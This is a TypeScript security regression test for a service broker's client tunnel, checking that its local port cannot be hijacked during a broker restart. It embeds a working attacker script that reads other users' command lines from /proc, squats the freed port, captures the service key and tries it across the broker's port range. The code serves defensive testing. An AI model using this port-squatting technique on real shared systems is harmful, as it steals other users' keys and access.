/**
 * LOC-4 on the client side, as the attacker (a penetration test of issue 11 found it open; the
 * tunnel now holds its listeners for its whole life): `broker tunnel NAME --local-port L` let go of its local
 * listener whenever its gateway connection ends — a broker restart, a network blip — and binds it
 * again only after it has reconnected. The broker holds *its* ports through restarts (LOC-4); the
 * client's tunnel does not. bt-mallory, a second real Unix user with no broker account, reads L in
 * the victim's command line (world-readable /proc/PID/cmdline), keeps trying to bind it, and has
 * it the moment the broker goes down. The tunnel then retries for ever (EADDRINUSE), silently
 * without a TTY, while the victim's client keeps sending the printed key to 127.0.0.1:L — to her.
 * A key is worth the service: she presents it on the service's published port (any local user can
 * connect there) and is let in.
 *
 * The test states what the promise says ("other users … cannot harvest a key"); it failed while
 * the attack worked.
 */
import type { ChildProcess } from 'node:child_process';
import { writeFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BIN, Daemon } from '../helpers/daemon.js';
import { portRange } from '../helpers/ssh.js';
import {
  announceSkip,
  killAs,
  lineFrom,
  nodeAs,
  runAs,
  spawnAs,
  spawnNodeAs,
  unixUser,
  userTmp,
  type UnixUser,
} from '../helpers/users.js';
import { until } from '../helpers/wait.js';

const skip = announceSkip("attack: the client tunnel's local port across a broker restart");

function freePort(): Promise<number> {
  return new Promise((resolve) => {
    const s = createServer().listen(0, '127.0.0.1', () => {
      const p = (s.address() as { port: number }).port;
      s.close(() => resolve(p));
    });
  });
}

/** alice's app: an echo on the Unix socket broker run gives it. */
const ECHO = `import net from 'node:net';
net.createServer((s) => s.on('data', (c) => s.write('echo:' + c))).listen(process.argv[2]);`;

/** alice's client: the key broker tunnel printed, then a line; prints what came back. */
const client = (port: number, key: string, line: string) => `import net from 'node:net';
const s = net.connect(${port}, '127.0.0.1');
let got = '';
s.on('connect', () => s.write(${JSON.stringify(key)} + '\\n' + ${JSON.stringify(line)} + '\\n'));
s.on('data', (c) => { got += c; if (got.includes('echo:') || got === 'DENIED\\n') s.end(); });
s.on('error', (e) => (got += '[' + e.code + ']'));
s.on('close', () => console.log(JSON.stringify({ got })));
setTimeout(() => s.destroy(), 3000);`;

/**
 * mallory: find L in alice's `broker tunnel` command line; bind it the moment it is free; answer
 * OK to whoever connects and keep the first line (the key); then try it on every port of the
 * broker's (public) range.
 */
const mallory = (range: string) => `import { readdirSync, readFileSync } from 'node:fs';
import net from 'node:net';
const out = (o) => console.log(JSON.stringify(o));
let port = 0;
while (!port) {
  for (const p of readdirSync('/proc').filter((x) => /^\\d+$/.test(x))) {
    let argv = [];
    try { argv = readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\\0'); } catch {}
    const i = argv.indexOf('--local-port');
    if (argv.includes('tunnel') && i !== -1) port = Number(argv[i + 1]);
  }
  if (!port) await new Promise((r) => setTimeout(r, 50));
}
out({ port });
const key = await new Promise((resolve) => {
  const srv = net.createServer((s) => {
    s.on('error', () => {});
    s.write('OK\\n');
    s.once('data', (c) => { s.end('echo:\\n'); resolve(c.toString().split('\\n')[0]); });
  });
  srv.once('listening', () => out({ squatting: port }));
  const tryBind = () => {
    srv.once('error', () => setTimeout(tryBind, 10));
    srv.listen(port, '127.0.0.1');
  };
  tryBind();
});
out({ key: key.slice(0, 4) + '…' });
const [lo, hi] = '${range}'.split('-').map(Number);
const tryKey = (p) => new Promise((resolve) => {
  const s = net.connect(p, '127.0.0.1');
  let got = '';
  s.on('connect', () => s.write(key + '\\nmallory was here\\n'));
  s.on('data', (c) => { got += c; if (got.includes('echo:')) s.end(); });
  s.on('error', () => {});
  s.on('close', () => resolve(got));
  setTimeout(() => s.destroy(), 1500);
});
for (let p = lo; p <= hi; p++) {
  const got = await tryKey(p);
  if (got.startsWith('OK')) { out({ in: p, got }); break; }
}
out({ done: true });`;

describe.skipIf(skip)(
  "attack: mallory takes a client tunnel's local port while the broker restarts",
  () => {
    let d: Daemon;
    let alice: UnixUser;
    let mal: UnixUser;
    let home: string;
    const procs: ChildProcess[] = [];

    beforeAll(async () => {
      alice = unixUser('bt-alice');
      mal = unixUser('bt-mallory');
      const [api, ssh] = [await freePort(), await freePort()];
      // Fixed API and gateway ports, as on a real site: clients reconnect to the same broker.
      d = await Daemon.start({
        portRange: portRange(),
        extraArgs: ['--listen', `127.0.0.1:${api}`, '--ssh-listen', `127.0.0.1:${ssh}`],
      });
      home = userTmp(alice, 'attack-tunnel-alice-');
    });
    afterAll(async () => {
      for (const p of procs) killAs(p);
      await new Promise((r) => setTimeout(r, 500));
      await d.stop().catch(() => undefined);
      rmSync(home, { recursive: true, force: true });
    });

    it("fail/LOC-4 mallory never holds the tunnel's local port, never gets the key, never gets into the service", async () => {
      const token = await d.addUser('bt-alice');
      writeFileSync(join(home, 'ca.pem'), d.ca, { mode: 0o644 });
      writeFileSync(join(home, 'echo.mjs'), ECHO, { mode: 0o644 });
      const env = { BROKER_URL: d.url, BROKER_TOKEN: token, BROKER_CA: join(home, 'ca.pem') };
      const range = d.opts.portRange!;

      // alice's server behind broker run, and her tunnel to it on a local port of her choice.
      const server = spawnAs(
        alice,
        process.execPath,
        [BIN, 'run', 'echo', '--', process.execPath, join(home, 'echo.mjs'), '{app_socket}'],
        { env },
      );
      procs.push(server);
      const ready = async () =>
        (await d.api('GET', '/v1/services/bt-alice/echo')).body.service?.status === 'ready';
      await until(ready, 20_000, 'alice/echo ready');
      const localPort = await freePort();
      const tunnel = spawnAs(
        alice,
        process.execPath,
        [BIN, 'tunnel', 'echo', '--local-port', String(localPort)],
        { env },
      );
      procs.push(tunnel);
      let tunnelSaid = '';
      tunnel.stderr!.on('data', (c: Buffer) => (tunnelSaid += c.toString()));
      const key = (await lineFrom(tunnel, (l) => l.startsWith('bkk_'))).trim();
      const use = async (line: string) =>
        JSON.parse((await nodeAs(alice, client(localPort, key, line))).stdout.trim()) as {
          got: string;
        };
      expect(await use('hello')).toEqual({ got: 'OK\necho:hello\n' });

      const m = spawnNodeAs(mal, mallory(range));
      procs.push(m);
      const said: Record<string, unknown>[] = [];
      m.stdout!.on('data', (c: Buffer) => {
        for (const l of c.toString().split('\n'))
          if (l.startsWith('{')) said.push(JSON.parse(l) as Record<string, unknown>);
      });
      await until(() => said.some((l) => 'port' in l), 10_000, 'mallory to find the port');

      // An ordinary broker restart (an upgrade, a crash under systemd).
      await d.stop();
      await until(() => said.some((l) => 'squatting' in l), 10_000, 'mallory to bind').catch(
        () => undefined,
      );
      await d.launch();
      await until(ready, 30_000, 'alice/echo ready again after the restart');
      // The tunnel said it lost the gateway (never silent) and that it is back.
      expect(tunnelSaid).toMatch(
        /the gateway connection ended; still holding 127\.0\.0\.1:\d+ and \[::1\]:\d+/,
      );
      await until(
        () => tunnelSaid.includes('reconnected to bt-alice/echo'),
        30_000,
        'the tunnel back',
      );

      // alice goes on using her tunnel as before.
      const after = await use('my secret work');
      // With a key she tries the broker's range (then says "done"); without one she is still
      // waiting for the port.
      await new Promise((r) => setTimeout(r, 1000)); // her last lines, if any, arrive
      if (said.some((l) => 'key' in l))
        await until(() => said.some((l) => 'done' in l), 30_000, 'mallory to finish').catch(
          () => undefined,
        );
      const inside = said.find((l) => 'in' in l) as { in: number; got: string } | undefined;
      console.log(
        `[attack] alice's client after the restart got ${JSON.stringify(after)}; mallory: ${JSON.stringify(said)}`,
      );
      // Same port, same key: alice's client works as before.
      expect(after).toEqual({ got: 'OK\necho:my secret work\n' });
      expect({
        mallorysPortNow: said.some((l) => 'squatting' in l),
        malloryGotTheKey: said.some((l) => 'key' in l),
        malloryInAlicesService: inside?.got ?? null,
      }).toEqual({
        mallorysPortNow: false,
        malloryGotTheKey: false,
        malloryInAlicesService: null,
      });
    }, 120_000);
  },
);

/** mallory listens on `host:port`; resolves with her process once she does (or her error). */
async function malloryListens(mal: UnixUser, host: string, port: number) {
  const m = spawnNodeAs(
    mal,
    `import net from 'node:net';
     const srv = net.createServer((s) => { s.on('data', (c) => console.log('bytes ' + c.length)); });
     srv.on('error', (e) => { console.log('error ' + e.code); process.exit(0); });
     srv.listen(${port}, ${JSON.stringify(host)}, () => console.log('listening'));`,
  );
  const first = await lineFrom(m, (l) => l === 'listening' || l.startsWith('error '));
  return { m, first };
}

describe.skipIf(skip)("LOC-4: the client tunnel's local port on both loopback addresses", () => {
  let d: Daemon;
  let alice: UnixUser;
  let mal: UnixUser;
  let home: string;
  let env: Record<string, string>;
  const procs: ChildProcess[] = [];

  beforeAll(async () => {
    alice = unixUser('bt-alice');
    mal = unixUser('bt-mallory');
    d = await Daemon.start({ portRange: portRange() });
    home = userTmp(alice, 'tunnel-both-alice-');
    const token = await d.addUser('bt-alice');
    writeFileSync(join(home, 'ca.pem'), d.ca, { mode: 0o644 });
    writeFileSync(join(home, 'echo.mjs'), ECHO, { mode: 0o644 });
    env = { BROKER_URL: d.url, BROKER_TOKEN: token, BROKER_CA: join(home, 'ca.pem') };
    const server = spawnAs(
      alice,
      process.execPath,
      [BIN, 'run', 'echo', '--', process.execPath, join(home, 'echo.mjs'), '{app_socket}'],
      { env },
    );
    procs.push(server);
    await until(
      async () =>
        (await d.api('GET', '/v1/services/bt-alice/echo')).body.service?.status === 'ready',
      20_000,
      'alice/echo ready',
    );
  });
  afterAll(async () => {
    for (const p of procs) killAs(p);
    await new Promise((r) => setTimeout(r, 500));
    await d.stop().catch(() => undefined);
    rmSync(home, { recursive: true, force: true });
  });

  it('fail/LOC-4 a port mallory holds on [::1] (or 127.0.0.1) is not half-taken: one line naming her, exit 1', async () => {
    for (const host of ['::1', '127.0.0.1']) {
      const port = await freePort();
      const { m, first } = await malloryListens(mal, host, port);
      procs.push(m);
      expect(first).toBe('listening');
      const r = await runAs(
        alice,
        process.execPath,
        [BIN, 'tunnel', 'echo', '--local-port', String(port)],
        {
          env,
          timeoutMs: 20_000,
        },
      );
      const where = host === '::1' ? `\\[::1\\]:${port}` : `127\\.0\\.0\\.1:${port}`;
      expect(r.code).toBe(1);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(
        new RegExp(
          `port_unavailable: cannot listen on ${where}: it is held by UID ${mal.uid} \\(bt-mallory\\)`,
        ),
      );
      expect(r.stdout).not.toMatch(/bkk_/); // no key printed for a tunnel that is not there
      killAs(m);
    }
  });

  it('fail/LOC-4 while the tunnel runs mallory can bind neither 127.0.0.1:L nor [::1]:L; a client on [::1] reaches the service', async () => {
    const port = await freePort();
    const tunnel = spawnAs(
      alice,
      process.execPath,
      [BIN, 'tunnel', 'echo', '--local-port', String(port)],
      {
        env,
      },
    );
    procs.push(tunnel);
    let printed = '';
    tunnel.stdout!.on('data', (c: Buffer) => (printed += c.toString()));
    const key = (await lineFrom(tunnel, (l) => l.startsWith('bkk_'))).trim();
    expect(printed).toContain(`forwarding 127.0.0.1:${port} and [::1]:${port} → bt-alice/echo`);
    for (const host of ['127.0.0.1', '::1']) {
      const { m, first } = await malloryListens(mal, host, port);
      procs.push(m);
      expect(first).toBe('error EADDRINUSE');
    }
    const viaV6 = await nodeAs(
      alice,
      `import net from 'node:net';
       const s = net.connect(${port}, '::1');
       let got = '';
       s.on('connect', () => s.write(${JSON.stringify(key)} + '\\nsix\\n'));
       s.on('data', (c) => { got += c; if (got.includes('echo:')) s.end(); });
       s.on('close', () => console.log(JSON.stringify(got)));`,
    );
    expect(JSON.parse(viaV6.stdout.trim())).toBe('OK\necho:six\n');
    killAs(tunnel, 'SIGTERM');
  });
});
